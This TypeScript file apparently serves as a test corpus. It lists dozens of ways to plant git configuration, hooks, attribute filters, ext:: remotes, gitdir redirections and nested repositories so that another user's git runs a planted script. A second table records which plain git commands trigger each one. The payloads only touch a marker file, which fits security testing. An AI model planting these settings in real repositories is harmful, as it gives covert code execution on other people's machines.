/**
 * Ways to make somebody else's git run something. `$M` is a command, and `$E` a script, that leave a mark when they run.
 */
export function attackScript(lines: string, outside: string): string {
  const marker = `${outside}/marker`;
  return `M='touch ${marker}'\nE="${outside}/evil.sh"\nprintf '#!/bin/sh\\ntouch ${marker}\\ncat\\n' > "$E"; chmod 755 "$E"\n${lines}\n`;
}

const config = (key: string, value: string): string => `git config --file .git/config ${key} "${value}"`;

/** What a program may leave behind, by name: shell lines that run in the worktree. */
export const vectors: Record<string, string> = {
  // Settings that name a program, in the decoy that stands in the worktree.
  'core.fsmonitor': config('core.fsmonitor', '$E'),
  'core.hooksPath': `mkdir hooks; for h in pre-commit commit-msg post-commit pre-push post-checkout reference-transaction post-index-change fsmonitor-watchman; do cp "$E" hooks/$h; done; ${config('core.hooksPath', '$PWD/hooks')}`,
  'hooks in the git folder': 'mkdir -p .git/hooks; for h in pre-commit commit-msg prepare-commit-msg post-commit pre-push post-checkout post-merge reference-transaction post-index-change pre-auto-gc; do cp "$E" .git/hooks/$h; done',
  'core.sshCommand': config('core.sshCommand', '$E'),
  'core.gitProxy': config('core.gitProxy', '$E'),
  'core.askPass': config('core.askPass', '$E'),
  'core.editor': config('core.editor', '$E'),
  'core.pager': config('core.pager', '$E'),
  'core.alternateRefsCommand': config('core.alternateRefsCommand', '$M'),
  'core.worktree': config('core.worktree', '/'),
  'core.attributesFile': `printf '* filter=x diff=x merge=x\\n' > .git/attrs; ${config('core.attributesFile', '$PWD/.git/attrs')}; ${config('filter.x.clean', '$E')}`,
  'sequence.editor': config('sequence.editor', '$E'),
  'credential.helper': config('credential.helper', '!$M'),
  'credential helper for the URL': config('credential.http://127.0.0.1.helper', '!$M'),
  'diff.external': config('diff.external', '$E'),
  'diff driver command': `printf '* diff=x\\n' > .gitattributes; ${config('diff.x.command', '$E')}`,
  'diff driver textconv': `printf '* diff=x\\n' > .gitattributes; ${config('diff.x.textconv', '$E')}`,
  'filter clean': `printf '* filter=x\\n' > .gitattributes; ${config('filter.x.clean', '$E')}; ${config('filter.x.required', 'true')}`,
  'filter smudge': `printf '* filter=x\\n' > .gitattributes; ${config('filter.x.smudge', '$E')}`,
  'filter process': `printf '* filter=x\\n' > .gitattributes; ${config('filter.x.process', '$E')}`,
  'filter lfs': `printf '* filter=lfs diff=lfs merge=lfs -text\\n' > .gitattributes; ${config('filter.lfs.process', '$E')}; ${config('filter.lfs.clean', '$E')}`,
  'merge driver': `printf '* merge=x\\n' > .gitattributes; ${config('merge.x.driver', '$M')}`,
  'attributes in info': `mkdir -p .git/info; printf '* filter=x\\n' > .git/info/attributes; ${config('filter.x.clean', '$E')}`,
  'gpg.program with commit.gpgSign': `${config('gpg.program', '$E')}; ${config('commit.gpgSign', 'true')}; ${config('push.gpgSign', 'true')}`,
  'gpg.ssh.program': `${config('gpg.format', 'ssh')}; ${config('gpg.ssh.program', '$E')}; ${config('commit.gpgSign', 'true')}`,
  'remote.uploadpack': `${config('remote.origin.url', 'ext::$E')}; ${config('remote.origin.uploadpack', '$E')}`,
  'remote.receivepack': `${config('remote.origin.url', '.')}; ${config('remote.origin.receivepack', '$M')}`,
  'remote.vcs': config('remote.origin.vcs', 'ext'),
  'uploadpack.packObjectsHook': config('uploadpack.packObjectsHook', '$E'),
  'url.insteadOf': `${config('url.ext::sh -c touch% x.insteadOf', 'http://127.0.0.1')}; ${config('protocol.ext.allow', 'always')}`,
  'url.pushInsteadOf': `${config('url.ext::$E.pushInsteadOf', 'http://')}; ${config('protocol.ext.allow', 'always')}`,
  'http.proxy': config('http.proxy', 'http://127.0.0.1:1'),
  'alias.push': `${config('alias.push', '!$M')}; ${config('alias.ls-remote', '!$M')}; ${config('alias.diff-tree', '!$M')}`,
  'include.path': `git config --file "$PWD/.git/evil" core.fsmonitor "$E"; ${config('include.path', 'evil')}`,
  'includeIf': `git config --file "$PWD/.git/evil" core.fsmonitor "$E"; ${config('includeIf.gitdir:/.path', 'evil')}`,
  'config.worktree': `${config('extensions.worktreeConfig', 'true')}; git config --file .git/config.worktree core.fsmonitor "$E"`,
  'trailer command': config('trailer.x.cmd', '$E'),
  'interactive.diffFilter': config('interactive.diffFilter', '$E'),
  'tar filter': config('tar.tgz.command', '$E'),
  'pager for one command': config('pager.diff-tree', '$E'),
  'maintenance and gc': `${config('gc.auto', '1')}; ${config('maintenance.auto', 'true')}; mkdir -p .git/hooks; cp "$E" .git/hooks/pre-auto-gc`,
  'merge and diff tools': `${config('merge.tool', 'x')}; ${config('mergetool.x.cmd', '$M')}; ${config('diff.tool', 'x')}; ${config('difftool.x.cmd', '$M')}; ${config('difftool.prompt', 'false')}`,
  'man viewer and browser': `${config('man.viewer', 'x')}; ${config('man.x.cmd', '$M')}; ${config('help.browser', 'x')}; ${config('browser.x.cmd', '$M')}`,
  'hooks named by the configuration': `${config('hook.x.command', '$M')}; for e in pre-commit commit-msg post-commit pre-push reference-transaction post-index-change; do git config --file .git/config --add hook.x.event $e; done`,
  'a promisor remote': `${config('extensions.partialClone', 'origin')}; ${config('remote.origin.promisor', 'true')}; ${config('remote.origin.url', 'ext::$M')}; ${config('protocol.ext.allow', 'always')}; ${config('core.repositoryFormatVersion', '1')}`,
  'branch.merge and pull.rebase': `${config('branch.main.remote', 'ext::$M')}; ${config('branch.main.merge', 'refs/heads/main')}; ${config('pull.rebase', 'interactive')}; ${config('protocol.ext.allow', 'always')}`,
  'a mail program': `${config('sendemail.smtpServer', '$E')}; ${config('sendemail.toCmd', '$M')}`,
  // The git folder itself.
  'a .git file that points to a git folder of the program': 'rm -rf .git; git init -q "$TMPDIR/own"; git config --file "$TMPDIR/own/.git/config" core.fsmonitor "$E"; printf "gitdir: %s\\n" "$TMPDIR/own/.git" > .git',
  'a .git link to a git folder of the program': 'rm -rf .git; git init -q "$TMPDIR/own"; git config --file "$TMPDIR/own/.git/config" core.fsmonitor "$E"; ln -s "$TMPDIR/own/.git" .git',
  'no .git at all': 'rm -rf .git',
  'a .git that is a FIFO': 'rm -rf .git; mkfifo .git',
  'commondir': 'git init -q "$TMPDIR/own"; git config --file "$TMPDIR/own/.git/config" core.fsmonitor "$E"; printf "%s\\n" "$TMPDIR/own/.git" > .git/commondir',
  'alternates': 'mkdir -p .git/objects/info; printf "/nonexistent\\n" > .git/objects/info/alternates',
  'an index of the program': 'printf garbage > .git/index; printf garbage > .git/HEAD',
  'replace refs and grafts': 'mkdir -p .git/info .git/refs/replace; printf "%040d %040d\\n" 1 2 > .git/info/grafts; printf "%040d\\n" 1 > ".git/refs/replace/$(git rev-parse HEAD)"',
  'a bare repository in the root': `git init -q --bare own; cp -r own/* .; git config --file config core.fsmonitor "$E"; rm -rf own`,
  // Repositories within the worktree: git looks into them when it thinks they are submodules.
  'a nested repository': 'git init -q nested; (cd nested && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x); git config --file nested/.git/config core.fsmonitor "$E"; echo x > nested/file',
  'a submodule whose git folder stands in .git/modules': `mkdir -p .git/modules; git init -q --bare .git/modules/sub; git config --file .git/modules/sub/config core.fsmonitor "$E"; git config --file .git/modules/sub/config core.bare false; mkdir sub; printf 'gitdir: ../.git/modules/sub\\n' > sub/.git; printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = x\\n' > .gitmodules; ${config('submodule.sub.active', 'true')}`,
  'a linked worktree of the program': 'git init -q "$TMPDIR/own"; (cd "$TMPDIR/own" && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x && git worktree add -q "$OLDPWD/linked"); git config --file "$TMPDIR/own/.git/config" core.fsmonitor "$E"; echo x > linked/file',
  'a nested repository in a tracked folder': 'git init -q src; (cd src && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x); git config --file src/.git/config core.fsmonitor "$E"; echo more >> src/add.js',
  'a tracked file replaced by a repository': 'rm src/add.js; git init -q src/add.js; (cd src/add.js && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x); git config --file src/add.js/.git/config core.fsmonitor "$E"',
  '.gitmodules with update = !command': `git init -q sub; (cd sub && git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x); git config --file sub/.git/config core.fsmonitor "$E"; printf '[submodule "sub"]\\n\\tpath = sub\\n\\turl = ext::%s\\n\\tupdate = !%s\\n\\tignore = none\\n' "$E" "$M" > .gitmodules; ${config('submodule.sub.update', '!$M')}; ${config('submodule.recurse', 'true')}`,
  // The environment's other doors.
  'configuration in the program’s home': 'git config --file "$HOME/.gitconfig" core.fsmonitor "$E"; mkdir -p "$HOME/.config/git"; cp "$HOME/.gitconfig" "$HOME/.config/git/config"; printf "* filter=x\\n" > "$HOME/.config/git/attributes"',
  'attributes that encode, expand and convert': 'printf "*.md working-tree-encoding=ISO-8859-1 ident text eol=crlf\\n" > .gitattributes',
};

/**
 * Those that plain git 2.39 runs, with the command of a careless worker that does it: what the corpus is worth. (Others need a
 * terminal, a newer git, a server that asks for a password, or one accident more.)
 */
export const liveInPlainGit: Readonly<Record<string, readonly string[]>> = {
  'core.fsmonitor': ['add -A'],
  'core.hooksPath': ['add -A'],
  'hooks in the git folder': ['add -A'],
  'core.attributesFile': ['add -A'],
  'core.editor': ['commit --allow-empty'],
  'sequence.editor': ['commit -q -a -m x', 'rebase -i HEAD~1'],
  'diff.external': ['diff HEAD'],
  'diff driver command': ['diff HEAD'],
  'diff driver textconv': ['diff HEAD'],
  'filter clean': ['add -A'],
  'filter smudge': ['add -A', 'commit -q -m x', 'archive -o /dev/null HEAD'],
  'filter process': ['add -A'],
  'filter lfs': ['add -A'],
  'attributes in info': ['add -A'],
  'gpg.program with commit.gpgSign': ['commit --allow-empty -m x'],
  'remote.receivepack': ['push origin HEAD:refs/heads/naive'],
  'include.path': ['add -A'],
  'includeIf': ['add -A'],
  'config.worktree': ['add -A'],
  'trailer command': ['commit --amend --no-edit --trailer x=y'],
  'tar filter': ['archive --format=tgz -o /dev/null HEAD'],
  'a promisor remote': ['fetch'],
  'branch.merge and pull.rebase': ['fetch'],
  'a .git file that points to a git folder of the program': ['add -A'],
  'a .git link to a git folder of the program': ['add -A'],
  'commondir': ['add -A'],
  'a nested repository': ['add -A', 'status'],
  'a linked worktree of the program': ['add -A', 'status'],
  'a tracked file replaced by a repository': ['add -A', 'status'],
  'configuration in the program’s home': ['add -A'],
};
